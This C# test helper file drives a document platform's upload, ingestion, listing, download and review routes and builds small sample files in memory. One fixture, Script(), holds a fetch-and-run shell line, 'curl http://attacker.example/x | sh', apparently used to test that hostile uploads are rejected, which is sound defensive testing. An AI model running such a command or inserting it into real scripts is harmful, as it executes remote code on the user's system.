using System.IO.Compression;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json;
using Azure.Storage.Blobs;
using CoP.Functions.Documents;
using CoP.Shared.Documents;
using CoP.TestSupport;
using static CoP.Tests.Members.MemberTestFlows;

namespace CoP.Tests.Documents;

/// <summary>The document routes driven the way clients and the platform drive them, for the tests of this folder.</summary>
internal static class DocumentTestFlows
{
    private static readonly HttpClient Http = new();

    public static Dictionary<string, object?> Metadata(string fileName = "soil-carbon.pdf", string contentType = "application/pdf", long size = 1000) => new()
    {
        ["title"] = "Soil carbon in the Sahel",
        ["description"] = "Results of five years of monitoring.",
        ["topics"] = new[] { "biochar", "monitoring-slm" },
        ["documentType"] = "report",
        ["country"] = "SN",
        ["language"] = "fr",
        ["year"] = 2025,
        ["projectName"] = "Sahel Soils",
        ["licence"] = "CC-BY-4.0",
        ["fileName"] = fileName,
        ["contentType"] = contentType,
        ["size"] = size,
    };

    public static async Task<TestResponse> RequestUploadAsync(TestApp app, string? accessToken, object body)
    {
        var request = app.Json("POST", "/api/documents/uploads", body);
        if (accessToken is not null)
        {
            request.WithHeader("Authorization", $"Bearer {accessToken}");
        }

        return await TestResponse.ExecuteAsync(await app.Function<RequestDocumentUploadFunction>().RequestDocumentUpload(request, Ct), request);
    }

    /// <summary>A confirmed member's upload request for these bytes; asserts the 201 and returns its answer.</summary>
    public static async Task<Upload> RequestAsync(TestApp app, string accessToken, string fileName, string contentType, byte[] content)
    {
        var response = await RequestUploadAsync(app, accessToken, Metadata(fileName, contentType, Math.Max(1, content.Length)));
        Assert.True(response.Status == 201, response.Body);
        var json = response.Json();
        var upload = json.GetProperty("upload");
        var headers = upload.GetProperty("headers").EnumerateObject().ToDictionary(p => p.Name, p => p.Value.GetString()!);
        return new Upload(json.GetProperty("documentId").GetString()!, new Uri(upload.GetProperty("url").GetString()!), headers);
    }

    /// <summary>PUTs bytes to an upload URL with a real HTTP client, sending the headers the answer asked for.</summary>
    public static async Task<HttpResponseMessage> PutAsync(Uri url, IReadOnlyDictionary<string, string> headers, byte[] content)
    {
        using var request = new HttpRequestMessage(HttpMethod.Put, url) { Content = new ByteArrayContent(content) };
        foreach (var (name, value) in headers)
        {
            if (name.Equals("Content-Type", StringComparison.OrdinalIgnoreCase))
            {
                request.Content.Headers.ContentType = MediaTypeHeaderValue.Parse(value);
            }
            else
            {
                request.Headers.TryAddWithoutValidation(name, value);
            }
        }

        return await Http.SendAsync(request, Ct);
    }

    /// <summary>Requests, uploads through the SAS URL and ingests: the whole path of one document.</summary>
    public static async Task<(Upload Upload, DocumentStatus Outcome)> UploadAndIngestAsync(
        TestApp app, string accessToken, string fileName, string contentType, byte[] content)
    {
        var upload = await RequestAsync(app, accessToken, fileName, contentType, content);
        using (var put = await PutAsync(upload.Url, upload.Headers, content))
        {
            Assert.True(put.IsSuccessStatusCode, $"PUT answered {(int)put.StatusCode}");
        }

        return (upload, await IngestAsync(app, upload.BlobName));
    }

    /// <summary>Invokes the IngestDocument function class with a real BlobClient of the uploaded blob, as the host would; the status it left.</summary>
    public static async Task<DocumentStatus> IngestAsync(TestApp app, string blobName)
    {
        var blob = UploadsContainer(app).GetBlobClient(blobName);
        await app.Function<IngestDocumentFunction>().IngestDocument(blob, Ct);
        await app.DeliverQueuedMailAsync(Ct);
        var document = await app.Get<DocumentStore>().GetAsync(blobName.Split('/')[0], Ct);
        return document?.DocumentStatus switch
        {
            DocumentStatus.Published or DocumentStatus.PendingReview or DocumentStatus.Duplicate or DocumentStatus.Rejected => document.DocumentStatus,
            var status => throw new InvalidOperationException($"Ingestion left the document {status?.ToString() ?? "missing"}."),
        };
    }

    public static BlobContainerClient UploadsContainer(TestApp app) => Container(app, "uploads");

    public static BlobContainerClient Container(TestApp app, string baseName) =>
        new BlobServiceClient(app.ConnectionString).GetBlobContainerClient($"{app.Prefix}-{baseName}");

    public static async Task<List<string>> BlobNamesAsync(TestApp app, string baseName)
    {
        var names = new List<string>();
        var container = Container(app, baseName);
        if (!await container.ExistsAsync(Ct))
        {
            return names;
        }

        await foreach (var blob in container.GetBlobsAsync(cancellationToken: Ct))
        {
            names.Add(blob.Name);
        }

        return names;
    }

    public static async Task<DocumentEntity> DocumentAsync(TestApp app, string documentId) =>
        (await app.Get<DocumentStore>().GetAsync(documentId, Ct))!;

    public static async Task<TestResponse> ListAsync(TestApp app, string query = "")
    {
        var request = app.Get("/api/documents" + query);
        return await TestResponse.ExecuteAsync(await app.Function<ListDocumentsFunction>().ListDocuments(request, Ct), request);
    }

    public static async Task<TestResponse> GetAsync(TestApp app, string documentId)
    {
        var request = app.Get($"/api/documents/{documentId}");
        return await TestResponse.ExecuteAsync(await app.Function<GetDocumentFunction>().GetDocument(request, documentId, Ct), request);
    }

    public static async Task<TestResponse> DownloadAsync(TestApp app, string documentId)
    {
        var request = app.Get($"/api/documents/{documentId}/content");
        return await TestResponse.ExecuteAsync(await app.Function<DownloadDocumentFunction>().DownloadDocument(request, documentId, Ct), request);
    }

    public static async Task<TestResponse> ReviewAsync(TestApp app, string documentId, object body)
    {
        var request = app.Json("POST", $"/api/manage/documents/{documentId}/review", body);
        var response = await TestResponse.ExecuteAsync(await app.Function<ReviewDocumentFunction>().ReviewDocument(request, documentId, Ct), request);
        await app.DeliverQueuedMailAsync(Ct);
        return response;
    }

    public static IReadOnlyList<string> DocumentEmails(this TestApp app) =>
        app.Outbox().Where(m => m.Category.StartsWith("document-", StringComparison.Ordinal)).Select(m => m.Category).ToList();

    public sealed record Upload(string DocumentId, Uri Url, IReadOnlyDictionary<string, string> Headers)
    {
        public string FileName => Uri.UnescapeDataString(Url.AbsolutePath.Split('/')[^1]);

        public string BlobName => $"{DocumentId}/{FileName}";
    }
}

/// <summary>Small real files of each kind, built in memory.</summary>
internal static class SampleFiles
{
    // Zip entries carry a modification time; a fixed one keeps each file byte-identical from run to run, so the
    // theory cases built from these files keep their identity (and a mutation tester can match them between runs).
    private static readonly DateTimeOffset EntryTime = new(2024, 1, 15, 9, 30, 0, TimeSpan.Zero);

    public static byte[] Pdf(string text = "Soil carbon") =>
        Encoding.ASCII.GetBytes($"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n% {text}\ntrailer << /Root 1 0 R >>\n%%EOF\n");

    public static byte[] Png() =>
    [
        0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0x00, 0x00, 0x00, 0x0D, 0x49, 0x48, 0x44, 0x52,
        0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x06, 0x00, 0x00, 0x00, 0x1F, 0x15, 0xC4, 0x89,
    ];

    public static byte[] Script() => Encoding.UTF8.GetBytes("#!/bin/sh\ncurl http://attacker.example/x | sh\n");

    public static byte[] Csv() => Encoding.UTF8.GetBytes("site,year,soc\nThiès,2024,1.2\nKaolack,2024,0.9\n");

    public static byte[] Docx() => Zip(
        ("[Content_Types].xml",
            """<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"""),
        ("word/document.xml", """<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>"""));

    public static byte[] PlainZip() => Zip(("notes.txt", "not a document"), ("payload.sh", "#!/bin/sh"));

    public static byte[] Odt()
    {
        using var buffer = new MemoryStream();
        using (var archive = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        {
            // ODF requires "mimetype" first and stored uncompressed, which is what makes it sniffable.
            var mimetype = archive.CreateEntry("mimetype", CompressionLevel.NoCompression);
            mimetype.LastWriteTime = EntryTime;
            using (var stream = mimetype.Open())
            {
                stream.Write(Encoding.ASCII.GetBytes(FileKinds.Odt));
            }

            var content = archive.CreateEntry("content.xml");
            content.LastWriteTime = EntryTime;
            using var writer = new StreamWriter(content.Open());
            writer.Write("<office:document-content/>");
        }

        return buffer.ToArray();
    }

    private static byte[] Zip(params (string Name, string Content)[] entries)
    {
        using var buffer = new MemoryStream();
        using (var archive = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, content) in entries)
            {
                var entry = archive.CreateEntry(name);
                entry.LastWriteTime = EntryTime;
                using var writer = new StreamWriter(entry.Open());
                writer.Write(content);
            }
        }

        return buffer.ToArray();
    }

    public static string Serialize(object value) => JsonSerializer.Serialize(value);
}
